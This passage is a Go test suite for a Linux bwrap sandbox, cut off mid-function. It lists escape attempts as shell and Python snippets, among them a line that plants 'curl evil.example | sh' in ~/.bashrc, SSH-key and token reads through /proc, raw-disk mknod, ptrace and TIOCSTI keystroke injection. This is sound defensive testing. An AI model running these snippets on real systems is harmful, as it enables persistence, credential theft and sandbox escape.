//go:build linux

package sandbox

import (
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"math/rand/v2"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
)

// escAttempts is the suite. Every snippet gets $WS (the workspace, also
// its working directory), $OUT (a directory outside it that the caller
// owns), $HOME (a test home whose ~/.ssh and ~/.gnupg the table's defaults
// hide), $SSH_KEY, $PY and whatever its setup adds.
var escAttempts = []*attempt{
	// ---- writes outside the workspace ----
	{
		name: "etc-write",
		what: "create a file in /etc",
		setup: func(e *escEnv) {
			e.vars["TARGET"] = e.hostTemp("/etc")
		},
		script:  `echo pwned > "$TARGET"`,
		escaped: func(e *escEnv, r *escResult) bool { return exists(e.vars["TARGET"]) },
		control: func(e *escEnv) escMode { return rootOnly(e, swapRule("root-read-only", "--bind", "/", "/")) },
	},
	{
		name: "home-persist",
		what: "append a command to ~/.bashrc",
		setup: func(e *escEnv) {
			rc := filepath.Join(e.home, ".bashrc")
			orig, err := os.ReadFile(rc)
			if err != nil {
				e.t.Fatal(err)
			}
			e.t.Cleanup(func() { os.WriteFile(rc, orig, 0o644) })
		},
		script: `echo 'curl -s evil.example | sh # sandtable' >> "$HOME/.bashrc"`,
		escaped: func(e *escEnv, r *escResult) bool {
			b, _ := os.ReadFile(filepath.Join(e.home, ".bashrc"))
			return bytes.Contains(b, []byte("evil.example"))
		},
		control: func(e *escEnv) escMode { return swapRule("root-read-only", "--bind", "/", "/") },
	},
	{
		name: "var-tmp-write",
		what: "create a file in the host's /var/tmp (world-writable, outlives reboots)",
		setup: func(e *escEnv) {
			e.vars["TARGET"] = e.hostTemp("/var/tmp")
		},
		script:  `echo pwned > "$TARGET"`,
		escaped: func(e *escEnv, r *escResult) bool { return exists(e.vars["TARGET"]) },
		control: func(e *escEnv) escMode { return swapRule("root-read-only", "--bind", "/", "/") },
	},
	{
		name: "dev-shm-write",
		what: "create a file in the host's /dev/shm",
		setup: func(e *escEnv) {
			if fi, err := os.Stat("/dev/shm"); err != nil || !fi.IsDir() {
				e.t.Skip("no /dev/shm on this host")
			}
			e.vars["TARGET"] = e.hostTemp("/dev/shm")
		},
		script:  `echo pwned > "$TARGET"`,
		escaped: func(e *escEnv, r *escResult) bool { return exists(e.vars["TARGET"]) },
		// Not a rule: --ro-bind / / alone would also make /dev/shm
		// read-only; --dev gives a private one. Outside shows it is a
		// real target.
		control: func(e *escEnv) escMode { return outsideCtl() },
	},
	{
		name: "host-tmp-write",
		what: "create a file that appears in the host's /tmp",
		setup: func(e *escEnv) {
			e.vars["TARGET"] = e.hostTemp("/tmp")
		},
		script:  `echo pwned > "$TARGET"`,
		escaped: func(e *escEnv, r *escResult) bool { return exists(e.vars["TARGET"]) },
		control: func(e *escEnv) escMode { return swapRule("tmp", "--bind", "/tmp", "/tmp") },
	},
	{
		name:    "dotdot-write",
		what:    "write beside the workspace through ..",
		script:  `cd "$WS" && echo pwned > ../dotdot-pwned; echo pwned > "$WS/../../dotdot-pwned2"`,
		escaped: func(e *escEnv, r *escResult) bool { return exists(filepath.Join(e.dir, "dotdot-pwned")) },
		control: func(e *escEnv) escMode { return swapRule("root-read-only", "--bind", "/", "/") },
	},
	{
		name: "symlink-out",
		what: "write through a symlink in the workspace that points outside (planted, and made in the sandbox)",
		setup: func(e *escEnv) {
			link := filepath.Join(e.ws, "link")
			if err := os.Symlink(e.out, link); err != nil {
				e.t.Fatal(err)
			}
			e.chown(e.t, link)
		},
		script: `echo pwned > "$WS/link/planted"; rm -f "$WS/link2"; ln -s "$OUT" "$WS/link2" && echo pwned > "$WS/link2/planted2"`,
		escaped: func(e *escEnv, r *escResult) bool {
			return exists(filepath.Join(e.out, "planted")) || exists(filepath.Join(e.out, "planted2"))
		},
		control: func(e *escEnv) escMode { return swapRule("root-read-only", "--bind", "/", "/") },
	},
	{
		name: "hardlink-out",
		what: "hard-link a host file into the workspace, then write through the link",
		setup: func(e *escEnv) {
			e.file(filepath.Join(e.out, "victim"), "original\n", 0o644)
		},
		script:  `ln "$OUT/victim" "$WS/hl" && echo pwned >> "$WS/hl"`,
		escaped: func(e *escEnv, r *escResult) bool { return fileHas(filepath.Join(e.out, "victim"), "pwned") },
		// link(2) across mounts is EXDEV whatever the rules say, so
		// no single rule is what stops it.
		control: func(e *escEnv) escMode { return outsideCtl() },
	},
	{
		name: "rename-out",
		what: "move a host file into the workspace (deleting it outside)",
		setup: func(e *escEnv) {
			e.file(filepath.Join(e.out, "victim"), "original\n", 0o644)
		},
		script:  `mv "$OUT/victim" "$WS/stolen"`,
		escaped: func(e *escEnv, r *escResult) bool { return !exists(filepath.Join(e.out, "victim")) },
		control: func(e *escEnv) escMode { return swapRule("root-read-only", "--bind", "/", "/") },
	},
	{
		name: "chmod-out",
		what: "chmod a host file outside the workspace",
		setup: func(e *escEnv) {
			e.file(filepath.Join(e.out, "victim"), "original\n", 0o644)
		},
		script: `chmod 0777 "$OUT/victim"`,
		escaped: func(e *escEnv, r *escResult) bool {
			fi, err := os.Stat(filepath.Join(e.out, "victim"))
			return err == nil && fi.Mode().Perm() == 0o777
		},
		control: func(e *escEnv) escMode { return swapRule("root-read-only", "--bind", "/", "/") },
	},
	{
		name: "chown-utime-out",
		what: "chown (root) or back-date (anyone) a host file",
		setup: func(e *escEnv) {
			e.file(filepath.Join(e.out, "victim"), "original\n", 0o644)
		},
		script: `chown 12345:12345 "$OUT/victim"; touch -m -d 2001-01-01 "$OUT/victim"`,
		escaped: func(e *escEnv, r *escResult) bool {
			fi, err := os.Stat(filepath.Join(e.out, "victim"))
			if err != nil {
				return false
			}
			st := fi.Sys().(*syscall.Stat_t)
			return st.Uid == 12345 || fi.ModTime().Year() == 2001
		},
		control: func(e *escEnv) escMode { return swapRule("root-read-only", "--bind", "/", "/") },
	},
	{
		name: "truncate-out",
		what: "truncate an existing host file",
		setup: func(e *escEnv) {
			e.file(filepath.Join(e.out, "victim"), "original\n", 0o644)
		},
		script: `: > "$OUT/victim"`,
		escaped: func(e *escEnv, r *escResult) bool {
			fi, err := os.Stat(filepath.Join(e.out, "victim"))
			return err == nil && fi.Size() == 0
		},
		control: func(e *escEnv) escMode { return swapRule("root-read-only", "--bind", "/", "/") },
	},
	{
		name: "read-path-write",
		what: "write into a read-only grant (Config.Read) inside the workspace",
		setup: func(e *escEnv) {
			ro := e.mkdir(filepath.Join(e.ws, "ro"))
			e.cfg.Read = []string{ro}
		},
		script:  `echo pwned > "$WS/ro/planted"`,
		escaped: func(e *escEnv, r *escResult) bool { return exists(filepath.Join(e.ws, "ro", "planted")) },
		control: func(e *escEnv) escMode { return dropRules("read-path") },
	},

	// ---- mounts ----
	{
		name: "remount-root-rw",
		what: "remount / read-write (directly, and in a nested user namespace) and write the host",
		script: `mount -o remount,bind,rw / || mount -o remount,rw /; echo pwned > "$OUT/remounted"
unshare -Urm sh -c 'mount -o remount,bind,rw / && echo pwned > "$OUT/remounted-nested"'`,
		escaped: func(e *escEnv, r *escResult) bool {
			return exists(filepath.Join(e.out, "remounted")) || exists(filepath.Join(e.out, "remounted-nested"))
		},
		// Either rule alone stops it on bwrap 0.8: --disable-userns
		// puts the child in a nested user namespace, where the
		// mounts are locked.
		control: func(e *escEnv) escMode { return rootOnly(e, dropRules("cap-drop", "disable-userns")) },
	},
	{
		name: "umount-hidden",
		what: "unmount the tmpfs over ~/.ssh and read the key",
		setup: func(e *escEnv) {
			e.secret = e.sshSecret
		},
		script: `umount "$HOME/.ssh" || umount -l "$HOME/.ssh"; cat "$SSH_KEY"
unshare -Urm sh -c 'umount -l "$HOME/.ssh"; cat "$SSH_KEY"'`,
		control: func(e *escEnv) escMode { return rootOnly(e, dropRules("cap-drop", "disable-userns")) },
	},
	{
		name: "mount-propagation",
		what: "mount a tmpfs that shows up in the host's mount table",
		setup: func(e *escEnv) {
			mnt := e.mkdir(filepath.Join(e.out, "mnt"))
			e.vars["MNT"] = mnt
			e.t.Cleanup(func() { syscall.Unmount(mnt, syscall.MNT_DETACH) })
		},
		script: `mount -t tmpfs sandtable-escape "$MNT"; unshare -Urm sh -c 'mount -t tmpfs sandtable-escape "$MNT"'`,
		escaped: func(e *escEnv, r *escResult) bool {
			b, _ := os.ReadFile("/proc/self/mountinfo")
			return bytes.Contains(b, []byte(" "+e.vars["MNT"]+" "))
		},
		// bwrap makes every mount a slave of the host's before the
		// rules run, so no rule is what stops this.
		control: func(e *escEnv) escMode { return capCtl(e, capSysAdmin) },
	},

	// ---- kernel state under /proc and /sys ----
	{
		name: "proc-sys-kernel",
		what: "change a host kernel tunable (/proc/sys/kernel/hung_task_warnings)",
		setup: func(e *escEnv) {
			e.tunable("/proc/sys/kernel/hung_task_warnings", "/proc/sys/fs/lease-break-time")
		},
		script:  `echo $((V + 1)) > "$F"`,
		escaped: tunableChanged,
		control: func(e *escEnv) escMode { return rootOnly(e, dropRules("proc-sys-read-only")) },
	},
	{
		name: "proc-sys-net",
		what: "change a host network tunable through the shared network namespace",
		setup: func(e *escEnv) {
			e.tunable("/proc/sys/net/ipv4/tcp_fin_timeout")
		},
		script:  `echo $((V + 1)) > "$F"`,
		escaped: tunableChanged,
		control: func(e *escEnv) escMode { return rootOnly(e, dropRules("proc-sys-read-only")) },
	},
	{
		name: "sysrq-trigger",
		what: "write /proc/sysrq-trigger ('h' only prints help to the kernel log)",
		setup: func(e *escEnv) {
			if !exists("/proc/sysrq-trigger") {
				e.t.Skip("this kernel has no /proc/sysrq-trigger (CONFIG_MAGIC_SYSRQ off)")
			}
		},
		script:  `echo h > /proc/sysrq-trigger && echo SYSRQ-ACCEPTED`,
		escaped: func(e *escEnv, r *escResult) bool { return strings.Contains(r.out, "SYSRQ-ACCEPTED") },
		// bwrap itself covers it read-only after --proc for a root caller.
		control: func(e *escEnv) escMode { return rootOnly(e, outsideCtl()) },
	},
	{
		name: "sysfs-write",
		what: "change a block device's read_ahead_kb under /sys",
		setup: func(e *escEnv) {
			m, _ := filepath.Glob("/sys/block/*/queue/read_ahead_kb")
			e.tunable(m...)
		},
		script:  `echo $((V + 4)) > "$F"`,
		escaped: tunableChanged,
		control: func(e *escEnv) escMode { return rootOnly(e, swapRule("root-read-only", "--bind", "/", "/")) },
	},
	{
		name:   "cgroup-write",
		what:   "write a knob of a cgroup delegated to the caller (escape or change limits)",
		setup:  setupCgroup,
		script: `echo "$VAL" > "$CG/$KNOB"`,
		escaped: func(e *escEnv, r *escResult) bool {
			return fileHas(filepath.Join(e.vars["CG"], e.vars["KNOB"]), e.vars["VAL"])
		},
		control: func(e *escEnv) escMode { return swapRule("root-read-only", "--bind", "/", "/") },
	},

	// ---- privilege ----
	{
		name:  "nested-userns",
		what:  "create a nested user namespace to regain a full capability set",
		needs: []string{"python3"},
		// unshare(CLONE_NEWUSER) in-process: an exec would drop the
		// capabilities again when no uid is mapped.
		script: `"$PY" -c 'import ctypes, os
if ctypes.CDLL(None, use_errno=True).unshare(0x10000000) != 0:
    raise SystemExit("unshare: " + os.strerror(ctypes.get_errno()))
print([l for l in open("/proc/self/status") if l.startswith("CapEff")][0])'`,
		escaped: func(e *escEnv, r *escResult) bool {
			return regexp.MustCompile(`CapEff:\s*0*[1-9a-f]`).MatchString(r.out)
		},
		control: func(e *escEnv) escMode { return dropRules("disable-userns") },
	},
	{
		name:  "mknod-disk",
		what:  "mknod the host's root block device (then read it raw: hidden files and all)",
		setup: setupRootDevice,
		script: `mknod "$WS/disk" b "$DEV_MAJ" "$DEV_MIN" && head -c 512 "$WS/disk" | wc -c | sed s/^/READ=/
unshare -Urm sh -c 'mknod "$WS/disk2" b "$DEV_MAJ" "$DEV_MIN" && head -c 512 "$WS/disk2" | wc -c | sed s/^/READ=/'`,
		escaped: func(e *escEnv, r *escResult) bool {
			return isDevice(filepath.Join(e.ws, "disk")) || isDevice(filepath.Join(e.ws, "disk2"))
		},
		control: func(e *escEnv) escMode { return capCtl(e, capMknod) },
	},
	{
		name: "raw-disk",
		what: "read the host's root block device through its /dev node",
		setup: func(e *escEnv) {
			setupRootDevice(e)
			f, err := os.Open(e.vars["DISK"])
			if err != nil {
				e.t.Skipf("this host refuses %s even to the test process outside any sandbox (a device cgroup?): %v", e.vars["DISK"], err)
			}
			f.Close()
		},
		script:  `head -c 512 "$DISK" | wc -c | sed s/^/READ=/`,
		escaped: func(e *escEnv, r *escResult) bool { return strings.Contains(r.out, "READ=512") },
		// --dev hides it, and --ro-bind / / is nodev anyway.
		control: func(e *escEnv) escMode { return rootOnly(e, outsideCtl()) },
	},
	{
		name:  "setuid-root",
		what:  "run a setuid-root binary to become root",
		setup: setupSetuid,
		// id prints euid= only when it differs from the real uid.
		script:  `"$SUID_ID"`,
		escaped: func(e *escEnv, r *escResult) bool { return strings.Contains(r.out, "euid=0(") },
		control: func(e *escEnv) escMode {
			if e.u.isRoot() {
				return noCtl("the caller is already uid 0")
			}
			return outsideCtl()
		},
	},
	{
		name:    "open-by-handle",
		what:    "open the hidden ~/.ssh key by file handle (\"shocker\"), bypassing the tmpfs",
		needs:   []string{"python3"},
		setup:   setupHandle,
		script:  `"$PY" -c "$HANDLE_PY" open`,
		control: func(e *escEnv) escMode { return capCtl(e, capDacReadSearch) },
	},
	{
		name:   "hostname",
		what:   "change the host's hostname",
		needs:  []string{"python3"},
		setup:  setupHostname,
		script: `"$PY" -c 'import os, socket; socket.sethostname(os.environ["NEWNAME"])'`,
		escaped: func(e *escEnv, r *escResult) bool {
			h, _ := os.Hostname()
			return h == e.vars["NEWNAME"]
		},
		control: func(e *escEnv) escMode { return capCtl(e, capSysAdmin) },
	},
	{
		name:  "net-config",
		what:  "add an address to the host's loopback interface (network on)",
		needs: []string{"ip"},
		setup: func(e *escEnv) {
			addr := fmt.Sprintf("127.77.%d.%d", rand.IntN(250)+1, rand.IntN(250)+1)
			e.vars["ADDR"] = addr
			e.t.Cleanup(func() { exec.Command(escLook("ip"), "addr", "del", addr+"/32", "dev", "lo").Run() })
		},
		script: `ip addr add "$ADDR/32" dev lo`,
		escaped: func(e *escEnv, r *escResult) bool {
			out, _ := exec.Command(escLook("ip"), "-o", "addr", "show", "dev", "lo").Output()
			return bytes.Contains(out, []byte(" "+e.vars["ADDR"]+"/"))
		},
		control: func(e *escEnv) escMode { return capCtl(e, capNetAdmin) },
	},

	// ---- other processes ----
	{
		name:    "kill-host",
		what:    "SIGKILL a process of the caller's outside the sandbox",
		setup:   func(e *escEnv) { e.startVictim() },
		script:  `kill -9 "$VICTIM_PID"`,
		escaped: func(e *escEnv, r *escResult) bool { return e.victim.killed() },
		control: func(e *escEnv) escMode { return dropRules("unshare-all") },
	},
	{
		name:   "ptrace-host",
		what:   "PTRACE_ATTACH to a process of the caller's and read its memory",
		needs:  []string{"python3"},
		setup:  func(e *escEnv) { e.startVictim(); e.vars["PTRACE_PY"] = ptracePy },
		script: `"$PY" -c "$PTRACE_PY"`,
		// Without the pid namespace the user namespace still stops it
		// (no CAP_SYS_PTRACE over the host's), and for root so does
		// cap-drop: the control takes all of them out.
		control: procCtl,
	},
	{
		name:    "proc-environ",
		what:    "read a host process's environment through /proc/<pid>/environ",
		setup:   func(e *escEnv) { e.startVictim() },
		script:  `tr '\0' '\n' < "/proc/$VICTIM_PID/environ"`,
		control: procCtl,
	},
	{
		name:    "proc-pid-root",
		what:    "read the hidden key through /proc/<host pid>/root",
		setup:   func(e *escEnv) { e.startVictim(); e.secret = e.sshSecret },
		script:  `cat "/proc/$VICTIM_PID/root$SSH_KEY"`,
		control: procCtl,
	},
	{
		name:   "sysv-shm",
		what:   "attach a SysV shared memory segment the caller created",
		needs:  []string{"python3"},
		setup:  setupShm,
		script: `"$PY" -c "$SHM_PY" read`,
		control: func(e *escEnv) escMode {
			return dropRules("unshare-all")
		},
	},

	// ---- hidden paths ----
	{
		name:    "proc-self-root",
		what:    "read the hidden key through /proc/self/root and /proc/self/cwd",
		setup:   func(e *escEnv) { e.secret = e.sshSecret },
		script:  `cat "/proc/self/root$SSH_KEY"; cat /proc/self/cwd/../../home/.ssh/id_ed25519`,
		control: func(e *escEnv) escMode { return dropRules("hide-dir=" + filepath.Dir(e.sshKey)) },
	},
	{
		name:    "proc-1-root",
		what:    "read the hidden key through /proc/1/root",
		setup:   func(e *escEnv) { e.secret = e.sshSecret },
		script:  `cat "/proc/1/root$SSH_KEY"`,
		control: func(e *escEnv) escMode { return dropRules("hide-dir=" + filepath.Dir(e.sshKey)) },
	},
	{
		name:    "symlink-to-hidden",
		what:    "symlink the hidden ~/.ssh into the workspace and read through it",
		setup:   func(e *escEnv) { e.secret = e.sshSecret },
		script:  `rm -f "$WS/keys"; ln -s "$HOME/.ssh" "$WS/keys" && cat "$WS/keys/id_ed25519"`,
		control: func(e *escEnv) escMode { return dropRules("hide-dir=" + filepath.Dir(e.sshKey)) },
	},
	{
		name: "hidden-symlink-target",
		what: "a hidden path that is a symlink: read its target by its real path",
		setup: func(e *escEnv) {
			real := e.mkdir(filepath.Join(e.dir, "real-creds"))
			e.secretFile(filepath.Join(real, "token"))
			link := filepath.Join(e.dir, "creds-link")
			if err := os.Symlink(real, link); err != nil {
				e.t.Fatal(err)
			}
			e.cfg.Hidden = []string{link}
			e.vars["LINK"], e.vars["REAL"] = link, real
		},
		script:  `cat "$REAL/token"; cat "$LINK/token"`,
		control: func(e *escEnv) escMode { return dropRules("hide-dir=" + e.vars["REAL"]) },
	},
	{
		name: "hidden-inside-ws",
		what: "read a hidden directory that lies inside the workspace",
		setup: func(e *escEnv) {
			inner := e.mkdir(filepath.Join(e.ws, "vendor", "secrets"))
			e.secretFile(filepath.Join(inner, "key"))
			e.cfg.Hidden = []string{inner}
		},
		script:  `cat "$WS/vendor/secrets/key"`,
		control: func(e *escEnv) escMode { return dropRules("hide-dir=" + e.cfg.Hidden[0]) },
	},
	{
		name: "hidden-file",
		what: "read a hidden regular file",
		setup: func(e *escEnv) {
			e.cfg.Hidden = []string{e.secretFile(filepath.Join(e.dir, "credentials.json"))}
			e.vars["F"] = e.cfg.Hidden[0]
		},
		script:  `cat "$F"`,
		control: func(e *escEnv) escMode { return dropRules("hide-file=" + e.vars["F"]) },
	},
	{
		name: "hidden-missing",
		what: "a missing hidden path must neither break the spawn nor the other hides",
		setup: func(e *escEnv) {
			d := e.mkdir(filepath.Join(e.dir, "hid"))
			e.secretFile(filepath.Join(d, "key"))
			e.cfg.Hidden = []string{filepath.Join(e.dir, "missing", "deeper"), d}
			e.vars["D"] = d
		},
		script:  `cat "$D/key"`,
		control: func(e *escEnv) escMode { return dropRules("hide-dir=" + e.vars["D"]) },
	},
	{
		name:  "hidden-socket",
		what:  "connect to a hidden unix socket (the socket itself is the hidden path)",
		needs: []string{"python3"},
		setup: func(e *escEnv) {
			sock := filepath.Join(e.dir, "agent.sock")
			e.serveUnix(sock)
			e.cfg.Hidden = []string{sock}
			e.cfg.Network.Mode = NetworkOff
		},
		script:  `"$PY" -c "$CONNECT_PY" "$SOCK"`,
		control: func(e *escEnv) escMode { return dropRules("hide-file=" + e.vars["SOCK"]) },
	},
	{
		name:  "socket-in-hidden-dir",
		what:  "connect to an agent socket in the default-hidden ~/.gnupg (network off)",
		needs: []string{"python3"},
		setup: func(e *escEnv) {
			e.serveUnix(filepath.Join(e.home, ".gnupg", "S.sandtable-"+e.a.name))
			e.cfg.Network.Mode = NetworkOff
		},
		script:  `"$PY" -c "$CONNECT_PY" "$SOCK"`,
		control: func(e *escEnv) escMode { return dropRules("hide-dir=" + filepath.Join(e.home, ".gnupg")) },
	},
	{
		name: "hardlink-elsewhere",
		what: "read a hidden key through another hard link outside every hidden path",
		setup: func(e *escEnv) {
			e.secret = e.sshSecret
			link := filepath.Join(e.dir, "id_ed25519.bak")
			if err := os.Link(e.sshKey, link); err != nil {
				e.t.Fatal(err)
			}
			e.vars["BACKUP"] = link
		},
		script:     `cat "$BACKUP"`,
		documented: "hiding is by path: a second hard link to a hidden file, outside every hidden path, reads it; hide the other path too",
	},

	// ---- network ----
	{
		name: "loopback-tcp",
		what: "reach a host service on 127.0.0.1 with the network off",
		setup: func(e *escEnv) {
			e.cfg.Network.Mode = NetworkOff
			e.serve("tcp", "127.0.0.1:0", func(a net.Addr) { e.vars["PORT"] = strconv.Itoa(a.(*net.TCPAddr).Port) })
		},
		script:  `timeout 5 bash -c 'exec 3<>"/dev/tcp/127.0.0.1/$PORT" && head -n 1 <&3'`,
		control: func(e *escEnv) escMode { return dropRules("unshare-all") },
	},
	{
		name:  "abstract-unix",
		what:  "reach a host abstract unix socket with the network off",
		needs: []string{"python3"},
		setup: func(e *escEnv) {
			e.cfg.Network.Mode = NetworkOff
			name := fmt.Sprintf("sandtable-escape-%x", rand.Uint64())
			e.serve("unix", "@"+name, nil)
			e.vars["SOCK"] = "@" + name // connectPy makes @ a leading NUL
		},
		script:  `"$PY" -c "$CONNECT_PY" "$SOCK"`,
		control: func(e *escEnv) escMode { return dropRules("unshare-all") },
	},

	// ---- what the child inherits ----
	{
		name:    "stripped-env",
		what:    "read ASTRID_SESSION_TOKEN etc. from env, /proc/self/environ and every visible process",
		setup:   func(e *escEnv) { e.secret = e.astrid },
		script:  `env; tr '\0' '\n' < /proc/self/environ; for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f"; done 2>/dev/null`,
		control: func(e *escEnv) escMode { return unstrippedCtl() },
	},
	{
		name:    "keyring-session",
		what:    "read a key from the caller's session keyring (keys are not namespaced)",
		needs:   []string{"python3"},
		setup:   setupSessionKey,
		script:  `"$PY" -c "$KEYS_PY"`,
		control: func(e *escEnv) escMode { return dropRules("seccomp") },
		hole:    "seccomp",
	},
	{
		name:    "keyring-user",
		what:    "read a key from the caller's user keyring",
		needs:   []string{"python3"},
		setup:   setupUserKey,
		script:  `"$PY" -c "$KEYS_PY"`,
		control: func(e *escEnv) escMode { return outsideCtl() },
	},
	{
		name:   "inherited-fd",
		what:   "write outside and read a hidden file through a directory descriptor the caller's process holds without close-on-exec",
		setup:  setupInheritedFD,
		script: `echo pwned > "/proc/self/fd/$FD/out/pwned-via-fd"; cat "/proc/self/fd/$FD/hidden/key"`,
		escaped: func(e *escEnv, r *escResult) bool {
			return strings.Contains(r.out, e.secret) || exists(filepath.Join(e.out, "pwned-via-fd"))
		},
		// The control runs the same argv with the directory passed on
		// as the caller's process would without Command's fix; it does
		// not clear the flag on $FD, which a parallel attempt's Command
		// would set again before the control started.
		control: func(e *escEnv) escMode { return realArgvCtl("the directory descriptor inherited") },
	},
	{
		name: "fd-reopen",
		what: "reopen a read-only stdin the caller passed (a host file) for writing via /proc/self/fd/0",
		setup: func(e *escEnv) {
			victim := e.file(filepath.Join(e.out, "victim"), "original\n", 0o644)
			f, err := os.Open(victim)
			if err != nil {
				e.t.Fatal(err)
			}
			e.t.Cleanup(func() { f.Close() })
			e.stdin = f
		},
		script:     `echo pwned > /proc/self/fd/0`,
		escaped:    func(e *escEnv, r *escResult) bool { return fileHas(filepath.Join(e.out, "victim"), "pwned") },
		documented: "a descriptor the caller hands in is a capability the sandbox cannot narrow: a read-only host file as stdin reopens read-write through /proc/self/fd; give the child pipes (an io.Reader), not host files",
	},

	// ---- socket families no namespace covers ----
	{
		name:    "vsock",
		what:    "open and bind an AF_VSOCK socket: the host's vsock port space, which --unshare-net leaves shared",
		needs:   []string{"python3"},
		setup:   setupVsock,
		script:  `"$PY" -c 'import os, socket; s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.bind((socket.VMADDR_CID_ANY, socket.VMADDR_PORT_ANY)); print(os.environ["MARK"], s.getsockname())'`,
		control: func(e *escEnv) escMode { return dropSeccomp("refuse-socket-families") },
	},
	{
		name:    "vsock-socketcall",
		what:    "AF_VSOCK through i386's socketcall (int 0x80 from a 64-bit process), whose arguments the filter cannot read",
		needs:   []string{"python3"},
		setup:   setupVsockSocketcall,
		script:  `"$PY" -c "$SOCKETCALL_PY"`,
		control: func(e *escEnv) escMode { return dropSeccomp("refuse-socketcall") },
	},

	// ---- the caller's terminal and lifetime ----
	{
		name:   "tiocsti",
		what:   "push keystrokes into the caller's terminal with TIOCSTI",
		needs:  []string{"python3"},
		setup:  setupTIOCSTI,
		script: `"$PY" -c "$TIOCSTI_PY"`,
		run:    runPty,
		control: func(e *escEnv) escMode {
			if legacyTIOCSTI() != "1" {
				return noCtl("dev.tty.legacy_tiocsti is not 1: the kernel refuses TIOCSTI to everyone without CAP_SYS_ADMIN")
			}
			// Two rules stop it: the new session leaves no terminal to
			// push into, and the seccomp filter refuses the ioctl.
			if nativeSeccomp() == nil {
				return dropRules("new-session")
			}
			return dropRules("new-session", "seccomp")
		},
	},
	{
		name: "tiocsti-interactive",
		what: "TIOCSTI with Config.Interactive, which keeps the caller's terminal for job control",
		setup: func(e *escEnv) {
			if legacyTIOCSTI() != "1" {
				e.t.Skip("dev.tty.legacy_tiocsti is not 1")
			}
			needSeccomp(e)
			setupTIOCSTI(e)
			e.cfg.Interactive = true
		},
		needs:   []string{"python3"},
		script:  `"$PY" -c "$TIOCSTI_PY"`,
		run:     runPty,
		control: func(e *escEnv) escMode { return dropRules("seccomp") },
		hole:    "seccomp",
	},
	{
		name:    "tiocsetd",
		what:    "set the caller's terminal (stdout) to the N_NULL line discipline, dead after the run",
		needs:   []string{"python3"},
		setup:   setupTermAttack,
		script:  `"$PY" -c "$TERM_PY" setd`,
		run:     runPtyState,
		escaped: func(e *escEnv, r *escResult) bool { return !strings.Contains(r.out, "[ldisc] 0\n") },
		control: func(e *escEnv) escMode { return dropSeccomp("refuse-tiocsetd") },
	},
	{
		name: "tiocsetd-interactive",
		what: "N_NULL with Config.Interactive, where the terminal is the command's own",
		setup: func(e *escEnv) {
			setupTermAttack(e)
			e.cfg.Interactive = true
		},
		needs:   []string{"python3"},
		script:  `"$PY" -c "$TERM_PY" setd`,
		run:     runPtyState,
		escaped: func(e *escEnv, r *escResult) bool { return !strings.Contains(r.out, "[ldisc] 0\n") },
		control: func(e *escEnv) escMode { return dropSeccomp("refuse-tiocsetd") },
	},
	{
		name:    "tiocexcl",
		what:    "put the caller's terminal in exclusive mode: the caller's later opens of it fail with EBUSY",
		needs:   []string{"python3"},
		setup:   setupTermAttack,
		script:  `"$PY" -c "$TERM_PY" excl`,
		run:     runPtyState,
		escaped: func(e *escEnv, r *escResult) bool { return !strings.Contains(r.out, "[exclusive] 0\n") },
		control: func(e *escEnv) escMode { return dropSeccomp("refuse-tiocexcl") },
	},
	{
		name: "outlive-parent",
		what: "keep running (and writing) after the process that started bwrap is killed",
		// The grandchild writes its marker only once the test has
		// killed the parent (and said so), so a slow machine cannot
		// make a false escape; the snippet waits for it, up to 10 s.
		script: `touch "$WS/started"
( ( until [ -e "$WS/parent-killed" ]; do sleep 0.05; done; echo alive > "$WS/outlived" ) & )
for i in $(seq 200); do [ -e "$WS/outlived" ] && break; sleep 0.05; done`,
		run:     runOutlive,
		escaped: func(e *escEnv, r *escResult) bool { return exists(filepath.Join(e.ws, "outlived")) },
		control: func(e *escEnv) escMode { return dropRules("die-with-parent") },
	},
}

// ---- helpers the attempts share ----

func exists(p string) bool {
	_, err := os.Lstat(p)
	return err == nil
}

func isDevice(p string) bool {
	fi, err := os.Lstat(p)
	return err == nil && fi.Mode()&os.ModeDevice != 0
}

func fileHas(p, s string) bool {
	b, err := os.ReadFile(p)
	return err == nil && bytes.Contains(b, []byte(s))
}

// hostTemp names a fresh path in a host directory and removes whatever the
// attempt or its control leaves there.
func (e *escEnv) hostTemp(dir string) string {
	p := filepath.Join(dir, fmt.Sprintf("sandtable-escape-%s-%x", e.a.name, rand.Uint64()))
	e.t.Cleanup(func() { os.Remove(p) })
	return p
}

// Capabilities the outside controls need; a container's root may lack them.
const (
	capDacReadSearch = 2
	capNetAdmin      = 12
	capSysAdmin      = 21
	capMknod         = 27
)

// capCtl is the outside control for an attack only uid 0 with capability
// c can make on the host.
func capCtl(e *escEnv, c uint) escMode {
	if !e.u.isRoot() {
		return rootOnly(e, outsideCtl())
	}
	b, _ := os.ReadFile("/proc/self/status")
	for _, line := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(line, "CapEff:"); ok {
			if eff, err := strconv.ParseUint(strings.TrimSpace(v), 16, 64); err == nil && eff&(1<<c) != 0 {
				return outsideCtl()
			}
		}
	}
	return noCtl(fmt.Sprintf("the test process lacks capability %d, so not even the control can do it", c))
}

// tunable picks the first writable host value among paths for $F, records
// it as $V and puts it back afterwards.
func (e *escEnv) tunable(paths ...string) {
	lockTunables(e.t)
	for _, p := range paths {
		b, err := os.ReadFile(p)
		v := strings.TrimSpace(string(b))
		if err != nil {
			continue
		}
		if _, err := strconv.Atoi(v); err != nil {
			continue
		}
		if os.Geteuid() == 0 && syscall.Access(p, 2 /* W_OK */) != nil {
			continue // read-only here even for root (a container's /proc/sys or /sys)
		}
		e.vars["F"], e.vars["V"] = p, v
		if os.Geteuid() == 0 {
			e.t.Cleanup(func() {
				if cur, _ := os.ReadFile(p); strings.TrimSpace(string(cur)) != v {
					if err := os.WriteFile(p, []byte(v+"\n"), 0); err != nil {
						e.t.Errorf("restore %s to %s: %v", p, v, err)
					}
				}
			})
		}
		return
	}
	e.t.Skipf("none of %v exists and is writable here", paths)
}

// tunablesLock serialises the attempts on host-wide tunables, across
// every test process on the host: another run's control (which changes
// the value) or its restore, between this attempt's reading of the value
// and its check, would pass for an escape, and this attempt's restore
// would then keep the other run's change.
const tunablesLock = "/tmp/sandtable-test-tunables.lock"

// lockTunables holds tunablesLock until t ends; the cleanup that puts a
// tunable back runs before the release.
func lockTunables(t *testing.T) {
	t.Helper()
